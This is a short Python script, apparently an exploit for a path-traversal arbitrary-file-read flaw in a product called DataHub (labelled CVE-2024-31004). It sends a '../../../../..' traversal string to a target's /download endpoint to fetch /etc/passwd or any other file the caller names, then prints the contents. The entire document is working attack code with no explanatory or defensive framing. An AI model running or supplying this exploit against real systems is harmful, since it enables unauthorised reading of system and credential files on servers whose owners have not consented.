import argparse
import requests

ap = argparse.ArgumentParser(description="DataHub CVE-2024-31004 arbitrary file read")
ap.add_argument("target")
ap.add_argument("--file", default="/etc/passwd")
a = ap.parse_args()

path = "../../../../.." + a.file
r = requests.get(a.target + "/download", params={"file": path}, timeout=10)
print(r.text)
